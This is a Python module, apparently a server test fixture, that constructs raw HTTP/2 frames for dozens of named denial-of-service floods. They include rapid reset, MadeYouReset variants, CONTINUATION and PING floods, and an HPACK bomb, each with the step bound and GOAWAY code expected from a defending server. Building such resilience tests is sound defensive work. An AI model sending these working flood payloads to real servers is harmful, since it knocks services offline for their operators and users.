"""Floods of HTTP/2: what a hostile client sends to cost a server more than itself.

Each flood is a start and frames that go on without end.  The preface and the exchange of settings come before.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from typing import Final, NamedTuple

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED, ACK = 1, 4, 8, 1
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PRIORITY_UPDATE: Final = 0x10
"""Type of RFC 9218 7.1."""
CANCEL: Final = 8
BLOCK: Final = b"\x82\x86\x84\x41\x06a.test"
"""Header block of a GET: three indices of the static table, and the authority, which enters the dynamic one."""
POST: Final = b"\x83" + BLOCK[1:]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes, prefix: int = 0) -> bytes:
    """Return a field with a literal name: not indexed, or with `prefix` 0x40 inserted into the dynamic table."""
    return bytes((prefix,)) + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes((len(text),)) + text
    rest, out = len(text) - 127, b"\x7f"
    while rest >= 128:
        out += bytes((rest & 127 | 128,))
        rest >>= 7
    return out + bytes((rest,)) + text


def opened(number: int) -> int:
    """Return the stream of the request with a number, which counts from 0."""
    return 2 * number + 1


def get(number: int, *fields: bytes) -> bytes:
    """Return the head of a whole request."""
    return frame(HEADERS, END_HEADERS | END_STREAM, opened(number), BLOCK + b"".join(fields))


def post(number: int, *fields: bytes) -> bytes:
    """Return the head of a request whose body follows."""
    return frame(HEADERS, END_HEADERS, opened(number), POST + b"".join(fields))


def number(value: int) -> bytes:
    """Return 32 bits."""
    return value.to_bytes(4, "big")


class Flood(NamedTuple):
    """Flood with its bounds."""

    name: str
    frames: Callable[[int], bytes]
    """Function that returns the frames of a step: 0, 1, 2 and so on."""
    start: bytes = b""
    most: int = 1100
    """Steps after which a server must have ended the connection."""
    is_silent: bool = False
    """True if the client reads nothing."""
    code: int = 11
    """Error code of the GOAWAY; 11 is ENHANCE_YOUR_CALM."""


def _setting(key: int, value: int) -> bytes:
    return frame(SETTINGS, 0, 0, key.to_bytes(2, "big") + number(value))


BOMB: Final = literal(b"x", b"v" * 3900, 0x40)
"""Field that fills the dynamic table; each index of one byte then stands for it."""
COOKIE: Final = literal(b"cookie", b"c" * 3900, 0x40)
FLOODS: Final = (
    Flood("rapid reset (CVE-2023-44487)", lambda n: get(n) + frame(RST_STREAM, 0, opened(n), number(CANCEL)), most=210),
    Flood("rapid reset of uploads", lambda n: post(n) + frame(RST_STREAM, 0, opened(n), number(CANCEL)), most=210),
    Flood(
        "made resets (CVE-2025-8671): WINDOW_UPDATE by nothing",
        lambda n: post(n) + frame(WINDOW_UPDATE, 0, opened(n), number(0)), most=210,
    ),
    Flood(
        "made resets: a window that is too large",
        lambda n: post(n) + frame(WINDOW_UPDATE, 0, opened(n), number(2**31 - 1)), most=210,
    ),
    Flood("made resets: DATA after the end", lambda n: get(n) + frame(DATA, 0, opened(n), b"x"), most=210),
    Flood("made resets: HEADERS after the end", lambda n: get(n) + get(n), most=210),
    Flood("made resets: PRIORITY of another length", lambda n: post(n) + frame(PRIORITY, 0, opened(n), b"x"), most=210),
    Flood("made resets: a capital", lambda n: get(n, literal(b"X", b"y")), most=210),
    Flood(
        "made resets: content that is too long",
        lambda n: post(n, literal(b"content-length", b"1")) + frame(DATA, 0, opened(n), b"xx"), most=210,
    ),
    Flood("streams beyond the limit", post),
    Flood("SETTINGS (CVE-2019-9515)", lambda n: _setting(4, 65535 + n % 2), most=110),
    Flood("empty SETTINGS", lambda _: frame(SETTINGS, 0, 0), most=110),
    Flood("acknowledgements of SETTINGS", lambda _: frame(SETTINGS, ACK, 0)),
    Flood("PING (CVE-2019-9512)", lambda _: frame(PING, 0, 0, bytes(8))),
    Flood("PING of a client that does not read", lambda _: frame(PING, 0, 0, bytes(8)), is_silent=True),
    Flood("empty DATA (CVE-2019-9518)", lambda _: frame(DATA, 0, 1), post(0)),
    Flood("DATA of padding", lambda _: frame(DATA, PADDED, 1, b"\xff" + bytes(255)), post(0)),
    Flood("empty CONTINUATION", lambda _: frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, BLOCK)),
    Flood("CONTINUATION (VU#421644)", lambda _: frame(CONTINUATION, 0, 1, b"\x82"), frame(HEADERS, 0, 1, BLOCK)),
    Flood(
        "long CONTINUATION", lambda _: frame(CONTINUATION, 0, 1, b"\x82" * 16384), frame(HEADERS, 0, 1, BLOCK), most=10
    ),
    Flood("WINDOW_UPDATE of the connection", lambda _: frame(WINDOW_UPDATE, 0, 0, number(1))),
    Flood("WINDOW_UPDATE of a stream", lambda _: frame(WINDOW_UPDATE, 0, 1, number(1)), post(0)),
    Flood("PRIORITY (CVE-2019-9513)", lambda n: frame(PRIORITY, 0, opened(n % 1000), number(0) + b"\x10")),
    Flood("PRIORITY_UPDATE", lambda n: frame(PRIORITY_UPDATE, 0, 0, number(1) + b"u=%d" % (n % 8)), post(0)),
    Flood("frames of an unknown type", lambda _: frame(0x42, 0, 0)),
    Flood("long frames of an unknown type", lambda _: frame(0x42, 0, 0, bytes(16384)), most=70),
    Flood("GOAWAY", lambda _: frame(GOAWAY, 0, 0, bytes(8)), post(0)),
    Flood(
        "HPACK bomb (CVE-2016-6581)",
        lambda n: frame(HEADERS, END_HEADERS | END_STREAM, opened(n + 1), BLOCK[:3] + b"\xbf" + b"\xbe" * 16000),
        frame(HEADERS, END_HEADERS | END_STREAM, 1, BLOCK + BOMB), most=120,
    ),
    Flood(
        "cookies in crumbs",
        lambda n: frame(HEADERS, END_HEADERS | END_STREAM, opened(n + 1), BLOCK[:3] + b"\xbf" + b"\xbe" * 4000),
        frame(HEADERS, END_HEADERS | END_STREAM, 1, BLOCK + COOKIE), most=120,
    ),
    Flood("heads of 80 KiB", lambda n: b"".join(_long_head(n)), most=110),
    Flood(
        "table sizes that go up and down",
        lambda n: frame(HEADERS, END_HEADERS | END_STREAM, opened(n), b"\x20" * 16000 + BLOCK), most=1, code=9,
    ),
)  # fmt: skip


def _long_head(step: int) -> Iterable[bytes]:
    block = BLOCK + literal(b"x", b"v" * 8000) * 10
    yield frame(HEADERS, END_STREAM, opened(step), block[:16384])
    for at in range(16384, len(block), 16384):
        is_last = at + 16384 >= len(block)
        yield frame(CONTINUATION, END_HEADERS if is_last else 0, opened(step), block[at : at + 16384])
